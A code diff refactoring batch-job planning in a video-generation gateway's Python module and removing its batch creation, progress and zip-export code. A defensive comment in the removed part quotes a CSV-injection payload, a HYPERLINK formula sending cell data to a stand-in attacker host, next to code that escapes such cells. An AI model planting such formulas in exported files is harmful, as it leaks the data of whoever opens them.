@@ -1,16 +1,14 @@
-"""Batches of jobs: planned from a form, checked row by row, created, followed, and zipped.
+"""Planning a batch: a filled-in form -> the jobs it would create, every row checked.
 
 A batch is made in three steps, so that nothing typed or uploaded is lost when something is
 wrong: each dropped file is uploaded on its own into the blob store and checked by its content
-(`JobService.keep_upload`); the form is then planned into jobs (`plan_batch`), every row that
-cannot run saying why; only then are the jobs created (`create_batch`), from the stored files'
-hashes, all in one transaction. Nothing here knows about HTTP: `routes/dashboard.py` parses the
-request, calls one of these functions and renders what it returns.
+(`JobService.keep_upload`); the form is then planned into jobs (here), every row that cannot
+run saying why; only then are the jobs created (`JobService.create_batch`), from the stored
+files' hashes, all in one transaction. Nothing here knows about HTTP, and nothing here writes.
 """
 
 from __future__ import annotations
 
-import asyncio
 import base64
 import csv
 import functools
@@ -19,21 +17,16 @@ import itertools
 import json
 import re
 import secrets
-import time
-import zipfile
-from collections.abc import AsyncIterator, Iterator
+from collections.abc import Callable, Collection, Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
-from typing import TYPE_CHECKING, Any
+from typing import Any
 
 import msgspec
 
-from .auth import Caller, LimitError
-from .models import TASK_INPUTS, ApiError, GenerationParams, field_problem, generation_params, iso
-from .store import TERMINAL, BatchItem, BatchJobSpec, Job, Reads
-
-if TYPE_CHECKING:
-    from .app import Gateway
+from .blobs import BlobStore
+from .models import TASK_INPUTS, ApiError, GenerationParams, field_problem, generation_params
+from .store import BatchJobSpec, JobStore
 
 TASKS = ("s2v", "i2v", "t2v")
 MODES = {
@@ -116,6 +109,14 @@ class BatchPlan:
     def ok(self) -> bool:
         return bool(self.jobs) and not self.errors and not self.bad_rows
 
+    def specs(self) -> list[BatchJobSpec]:
+        """The jobs to create, once the plan is `ok`."""
+        return [
+            BatchJobSpec(task=self.task, params=job.params, inputs=job.inputs, files=job.files,
+                         priority=job.priority)
+            for job in self.jobs
+        ]
+
 
 @functools.cache
 def _image_kinds() -> frozenset[str]:
@@ -131,21 +132,17 @@ def _image_kinds() -> frozenset[str]:
 _Row = tuple[str, dict[str, Upload], dict[str, Any], list[str]]
 
 
-async def plan_batch(gw: Gateway, form: dict[str, str], files: list[str]) -> BatchPlan:
+def plan_batch(
+    form: dict[str, str], uploads: list[Upload] | TooMany, *,
+    runnable: Collection[str], prompt_missing: Callable[[str, Any], str | None],
+) -> BatchPlan:
     """The jobs a filled-in batch form would create, each with what stops it from running.
 
-    The listed files are looked up on a reader thread, and the rows (up to 2,000, each checked)
-    are planned on a worker thread: the event loop, serving every other request, waits for neither.
+    `uploads`: the form's files as `find_uploads` found them; `runnable`: the task types some
+    upstream runs; `prompt_missing`: why a job of a task type needs the prompt it lacks (the
+    API's own rule, `JobService.prompt_missing`). Up to 2,000 rows, each checked: callers run
+    it on a worker thread.
     """
-    uploads: list[Upload] | TooMany
-    try:
-        uploads = await _uploads(gw, files)
-    except TooMany as exc:
-        uploads = exc
-    return await asyncio.to_thread(_plan, gw, form, uploads)
-
-
-def _plan(gw: Gateway, form: dict[str, str], uploads: list[Upload] | TooMany) -> BatchPlan:
     task = form.get("task", "s2v")
     mode = form.get("mode", "each")
     errors: list[str] = []
@@ -155,7 +152,7 @@ def _plan(gw: Gateway, form: dict[str, str], uploads: list[Upload] | TooMany) ->
     if mode not in MODES:
         errors.append("Choose how to form the jobs")
         mode = "each"
-    if not any(task in s.upstream.tasks for s in list(gw.dispatcher.states.values())):
+    if task not in runnable:
         errors.append(f"No node of this gateway runs {task} jobs; choose another task type")
     base = {name: form.get(name, "") for name in ("prompt", "negative_prompt", "seed", "priority", *FORM_PARAMS)}
 
@@ -181,10 +178,9 @@ def _plan(gw: Gateway, form: dict[str, str], uploads: list[Upload] | TooMany) ->
         return BatchPlan(task=task, mode=mode, jobs=[], errors=errors, summary=exc.summary)
     jobs = [_checked_job(number, row, base) for number, row in enumerate(rows, start=1)]
     for job in jobs:
-        if why := gw.jobs.prompt_missing(task, job.params.get("prompt")):
+        if why := prompt_missing(task, job.params.get("prompt")):
             job.errors.append(f"Prompt: required, {why}")
     return BatchPlan(task=task, mode=mode, jobs=jobs, errors=errors, summary=_plan_summary(mode, uploads, jobs))
-
 
 class TooMany(Exception):
     """A count in the form is over what a batch holds; said before anything that big is built."""
@@ -211,14 +207,15 @@ def _jobs_of(field: str, factors: list[tuple[str, int]]) -> int:
     return jobs
 
 
-async def _uploads(gw: Gateway, values: list[str]) -> list[Upload]:
-    """The files listed in the form, checked against the blob store (the form is not trusted)."""
+async def find_uploads(store: JobStore, blobs: BlobStore, values: list[str]) -> list[Upload] | TooMany:
+    """The files listed in the form, checked against the blob store (the form is not trusted);
+    more than a batch can hold is a `TooMany` for the plan to say. Looked up on a reader thread."""
     # Each listed file costs a look-up in the store: count them first.
     if len(values) > MAX_BATCH_FILES:
-        raise TooMany("Files", f"{_count('file', len(values))} are listed", limit=MAX_BATCH_FILES)
+        return TooMany("Files", f"{_count('file', len(values))} are listed", limit=MAX_BATCH_FILES)
     fields = list(filter(None, map(_file_field, values)))
     shas = {sha for data in fields if re.fullmatch(r"[0-9a-f]{64}", sha := str(data.get("sha256", "")))}
-    blobs = await gw.store.read(lambda r: {sha: r.blob(sha) for sha in shas})
+    found = await store.read(lambda r: {sha: r.blob(sha) for sha in shas})
     uploads: dict[str, Upload] = {}
     for data in fields:
         name, role = str(data["name"]), str(data.get("role", "image"))
@@ -226,8 +223,8 @@ async def _uploads(gw: Gateway, values: list[str]) -> list[Upload]:
             uploads[name] = Upload(name, role, error=str(data["error"]))
             continue
         sha = str(data.get("sha256", ""))
-        blob = blobs.get(sha)
-        if blob is None or not gw.blobs.exists(sha):
+        blob = found.get(sha)
+        if blob is None or not blobs.exists(sha):
             uploads[name] = Upload(name, role, error=f"{name} is no longer stored on the gateway"
                                    " (uploaded more than an hour ago?); add it again")
             continue
@@ -235,6 +232,10 @@ async def _uploads(gw: Gateway, values: list[str]) -> list[Upload]:
         uploads[name] = Upload(name, role, sha, blob["size"])
     return list(uploads.values())
 
+
+def listed_names(values: list[str]) -> list[str]:
+    """The names of the files the form lists, as a batch keeps them with its form."""
+    return [str(data["name"]) for data in filter(None, map(_file_field, values))]
 
 def _file_field(raw: str) -> dict[str, Any] | None:
     """One `file` field of the form (`Upload.as_json`), or None when it is not one."""
@@ -505,7 +506,17 @@ def _plan_summary(mode: str, uploads: list[Upload], jobs: list[PlannedJob]) -> s
     return jobs_text
 
 
-# -- creating and acting on a batch -------------------------------------------------------------
+def retry_params(params: dict[str, Any], prompt: str, seed: str) -> dict[str, Any]:
+    """A job's parameters with the retry form's prompt and seed (no seed: a new random one), checked
+    as a batch row's are; the first problem is a 422 naming its field."""
+    values = {**params, "prompt": prompt}
+    values.pop("seed", None)
+    if seed.strip():
+        values["seed"] = seed.strip()
+    checked, _, problems = _check_params(values)
+    if problems:
+        raise ApiError(422, problems[0], "seed" if "Seed" in problems[0] else "prompt")
+    return checked
 
 
 def new_batch_id() -> str:
@@ -513,275 +524,3 @@ def new_batch_id() -> str:
     return "b" + base64.b32encode(secrets.token_bytes(10)).decode().lower()
 
 
-async def create_batch(
-    gw: Gateway, who: Caller, form: dict[str, str], files: list[str],
-) -> tuple[BatchPlan, str | None]:
-    """Plan the form again (never trust a preview) and, when every row can run, queue its jobs."""
-    plan = await plan_batch(gw, form, files)
-    if not plan.ok:
-        return plan, None
-    batch_id = form.get("batch_id", "")
-    if not re.fullmatch(r"b[a-z0-9]{8,40}", batch_id):
-        batch_id = new_batch_id()
-    specs = [
-        BatchJobSpec(task=plan.task, params=job.params, inputs=job.inputs, files=job.files,
-                     priority=job.priority)
-        for job in plan.jobs
-    ]
-    kept_form = {k: v for k, v in form.items() if k not in ("batch_id",)}
-    kept_form["files"] = [str(data["name"]) for data in filter(None, map(_file_field, files))]
-    name = form.get("name", "").strip()[:200] or None
-    existing = await gw.store.batch(batch_id)
-    if existing is not None:
-        if not who.may_touch(existing["owner"]):
-            batch_id = new_batch_id()  # a guessed id of someone else's batch: a new one
-        else:
-            return plan, batch_id  # a second click on Create: show the batch the first one made
-    # The jobs are `who`'s and count against its daily quota, like jobs posted to the API.
-    async with gw.auth.counting_jobs(who, len(specs)) as count:
-        made = await gw.jobs.submit_batch(
-            batch_id, specs, owner=who.owner,
-            batch={"name": name, "task": plan.task, "mode": plan.mode, "form": kept_form},
-        )
-        if made is None:
-            count.refund()  # made by a click a moment earlier
-    return plan, batch_id
-
-
-async def run_again(gw: Gateway, who: Caller, job: Job, prompt: str, seed: str) -> tuple[Job, bool]:
-    """Retry a job; with an edited prompt or seed, as a new job in its batch. (job, is_new)."""
-    if not job.finished:
-        raise ApiError(409, f"This job is {job.state}: cancel it first, or wait for it to end")
-    params = _retry_params(job, prompt, seed)
-    unchanged = params.get("prompt", "") == job.params.get("prompt", "") and (
-        not seed.strip() or params.get("seed") == job.params.get("seed")
-    )
-    # Either way it costs a GPU as much as a new job, so it counts against the caller's quota.
-    async with gw.auth.counting_jobs(who):
-        if unchanged and job.state in ("failed", "cancelled"):
-            if job.files_expired:
-                raise ApiError(410, "This job's input files have expired; submit it again with its files")
-            return await gw.dispatcher.retry(job.id), False
-        item = await gw.store.batch_item(job.id)
-        return await gw.jobs.run_again(job, params, item.files if item else {}), True
-
-
-def _retry_params(job: Job, prompt: str, seed: str) -> dict[str, Any]:
-    """The job's parameters with the retry form's prompt and seed (no seed: a new random one)."""
-    values = {**job.params, "prompt": prompt}
-    values.pop("seed", None)
-    if seed.strip():
-        values["seed"] = seed.strip()
-    params, _, problems = _check_params(values)
-    if problems:
-        raise ApiError(422, problems[0], "seed" if "Seed" in problems[0] else "prompt")
-    return params
-
-
-async def cancel_batch(gw: Gateway, who: Caller, batch_id: str) -> int:
-    """Cancel the batch's unfinished jobs this caller may touch; returns how many were cancelled."""
-    await batch_summary(gw, batch_id, who)  # 404 for a batch this key cannot see
-    cancelled = 0
-    async for item in all_items(gw, batch_id, who.sees):
-        if not item.job.finished:
-            job = await gw.dispatcher.cancel(item.job.id)
-            cancelled += job is not None and job.state == "cancelled"
-    return cancelled
-
-
-async def retry_failed(gw: Gateway, who: Caller, batch_id: str) -> tuple[int, int, str | None]:
-    """Failed jobs back to the queue: (retried, skipped as their files expired, why the rest were not)."""
-    await batch_summary(gw, batch_id, who)  # 404 for a batch this key cannot see
-    retried = expired = 0
-    for item in [item async for item in all_items(gw, batch_id, who.sees)]:
-        # A failed job already run again with an edited prompt or seed is left alone: its new
-        # run stands for it.
-        if item.job.state != "failed" or item.retried_as:
-            continue
-        if item.job.files_expired:
-            expired += 1
-            continue
-        try:
-            async with gw.auth.counting_jobs(who):
-                await gw.dispatcher.retry(item.job.id)
-        except LimitError as exc:
-            return retried, expired, exc.message  # the caller's quota ran out
-        retried += 1
-    return retried, expired, None
-
-
-async def all_items(gw: Gateway, batch_id: str, owner: str | None) -> AsyncIterator[BatchItem]:
-    """Every job of the batch `owner` may see (None: every job), read a page at a time."""
-    after = 0
-    while items := await gw.store.batch_items(batch_id, after_seq=after, limit=1000, owner=owner):
-        for item in items:
-            yield item
-        after = items[-1].job.seq
-
-
-# -- progress ------------------------------------------------------------------------------------
-
-
-@dataclass
-class BatchSummary:
-    """A batch's name, job counts by state, and time left."""
-
-    id: str
-    name: str
-    task: str | None
-    created_at: float | None
-    counts: dict[str, int]
-    eta: float | None  # seconds left, when there is enough to estimate from
-
-    @property
-    def total(self) -> int:
-        return sum(self.counts.values())
-
-    @property
-    def done(self) -> int:
-        return sum(self.counts[s] for s in TERMINAL)
-
-    @property
-    def left(self) -> int:
-        return self.total - self.done
-
-    @property
-    def percent(self) -> int:
-        return int(100 * self.done / self.total) if self.total else 0
-
-
-async def batch_summary(gw: Gateway, batch_id: str, who: Caller) -> BatchSummary:
-    """Counts, progress and time left of the batch's jobs this caller may see."""
-    return await gw.store.read(lambda r: read_batch_summary(r, batch_id, who))
-
-
-def read_batch_summary(r: Reads, batch_id: str, who: Caller) -> BatchSummary:
-    batch = r.batch(batch_id)
-    if batch is not None and not who.may_touch(batch["owner"]):
-        batch = None
-    counts = r.batch_counts(batch_id, owner=who.sees)
-    if batch is None and not any(counts.values()):
-        # Another key's batch looks exactly like one that does not exist.
-        raise ApiError(404, f"There is no batch {batch_id}. The list of batches is on the Batches page.")
-    created = batch["created_at"] if batch else r.batch_created_at(batch_id, owner=who.sees)
-    name = (batch or {}).get("name") or f"Batch {batch_id}"
-    summary = BatchSummary(batch_id, name, (batch or {}).get("task"), created, counts, None)
-    # Throughput so far, queueing included: jobs that ran to an end per second since the batch
-    # was made. Cancelled jobs end at once and say nothing about speed.
-    worked = counts["succeeded"] + counts["failed"]
-    busy = counts["queued"] + counts["submitted"] + counts["running"]
-    if worked and busy and created:
-        summary.eta = busy * (time.time() - created) / worked
-    return summary
-
-
-# -- the zip of a batch's videos -----------------------------------------------------------------
-
-MANIFEST_FIELDS = (
-    "file", "job_id", "position", "state", "task", "image", "audio", "prompt", "negative_prompt",
-    "seed", "parameters", "node", "attempts", "created_at", "started_at", "finished_at",
-    "seconds", "error", "retry_of",
-)
-
-
-async def batch_zip(gw: Gateway, who: Caller, batch_id: str) -> AsyncIterator[bytes]:
-    """The batch's videos and a manifest.csv describing every job, as a zip made while it streams."""
-    # Checked now, not at the first chunk: once the zip streams, the 200 has been sent.
-    await batch_summary(gw, batch_id, who)  # 404 for a batch this key cannot see
-    return _zip_chunks(gw, batch_id, who.sees)
-
-
-async def _zip_chunks(gw: Gateway, batch_id: str, owner: str | None) -> AsyncIterator[bytes]:
-    """The zip of `batch_zip`, chunk by chunk, each video read a MiB at a time off the loop."""
-    videos: list[tuple[str, Path]] = []
-    manifest = io.StringIO()
-    writer = csv.DictWriter(manifest, fieldnames=MANIFEST_FIELDS)
-    writer.writeheader()
-    taken: set[str] = set()
-    async for item in all_items(gw, batch_id, owner):
-        job, file = item.job, ""
-        if job.state == "succeeded" and job.result_sha and not job.files_expired:
-            path = gw.blobs.path(job.result_sha)
-            if path.is_file():
-                file = _video_name(item, taken)
-                videos.append((file, path))
-        writer.writerow(_manifest_row(item, file))
-    sink = _ZipSink()
-    with zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_STORED, allowZip64=True) as archive:
-        for name, path in videos:
-            info = zipfile.ZipInfo(name, date_time=time.localtime(path.stat().st_mtime)[:6])
-            info.file_size = path.stat().st_size  # lets zipfile pick zip64 up front for huge files
-            with path.open("rb") as source, archive.open(info, "w") as member:
-                while chunk := await asyncio.to_thread(source.read, 1024 * 1024):
-                    member.write(chunk)
-                    yield sink.take()
-            yield sink.take()
-        archive.writestr("manifest.csv", manifest.getvalue())
-    yield sink.take()
-
-
-class _ZipSink(io.RawIOBase):
-    """A write-only, unseekable file for `zipfile`: what was written is taken out as it comes."""
-
-    # Unseekable, zipfile writes each member's sizes after its data (data descriptors), so the
-    # archive streams out while it is made and is never whole in memory.
-
-    def __init__(self) -> None:
-        self._chunks: list[bytes] = []
-
-    def writable(self) -> bool:
-        return True
-
-    def write(self, data: Any) -> int:
-        self._chunks.append(bytes(data))
-        return len(data)
-
-    def take(self) -> bytes:
-        data = b"".join(self._chunks)
-        self._chunks.clear()
-        return data
-
-
-def _video_name(item: BatchItem, taken: set[str]) -> str:
-    """`0007_face_voice.mp4`: the job's place in the batch and its files, unique in the zip."""
-    stems = [Path(name).stem for name in item.files.values()]
-    label = "_".join([f"{item.position:04d}" if item.position else item.job.id, *stems])
-    label = re.sub(r"[^\w.\-]+", "-", label).strip("-")[:120] or item.job.id
-    name, n = f"{label}.mp4", 1
-    while name in taken:
-        n += 1
-        name = f"{label}-{n}.mp4"
-    taken.add(name)
-    return name
-
-
-# A spreadsheet reads a cell starting with one of these as a formula: a prompt such as
-# `=HYPERLINK("http://evil.example/?"&A1)` would run when someone opens manifest.csv (OWASP's
-# "CSV injection"). A leading `'` makes it text again, shown as written.
-_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def _as_text(cell: Any) -> Any:
-    if isinstance(cell, str) and cell.startswith(_FORMULA_STARTS):
-        return "'" + cell
-    return cell
-
-
-def _manifest_row(item: BatchItem, file: str) -> dict[str, Any]:
-    """One job's line of manifest.csv (`file` is empty when the zip has no video of it); every
-    cell a spreadsheet would take for a formula is kept as text."""
-    job = item.job
-    params = dict(job.params)
-    began = job.started_at or job.submitted_at
-    took = job.finished_at - began if job.finished_at and began else None
-    row = {
-        "file": file, "job_id": job.id, "position": item.position or "", "state": job.state,
-        "task": job.task, "image": item.files.get("image", ""), "audio": item.files.get("audio", ""),
-        "prompt": params.pop("prompt", ""), "negative_prompt": params.pop("negative_prompt", ""),
-        "seed": params.pop("seed", ""), "parameters": json.dumps(params, sort_keys=True) if params else "",
-        "node": job.upstream or "", "attempts": job.attempts, "created_at": iso(job.created_at),
-        "started_at": iso(job.started_at) or "", "finished_at": iso(job.finished_at) or "",
-        "seconds": f"{took:.1f}" if took is not None else "", "error": job.error or "",
-        "retry_of": item.retry_of or "",
-    }
-    return {name: _as_text(cell) for name, cell in row.items()}
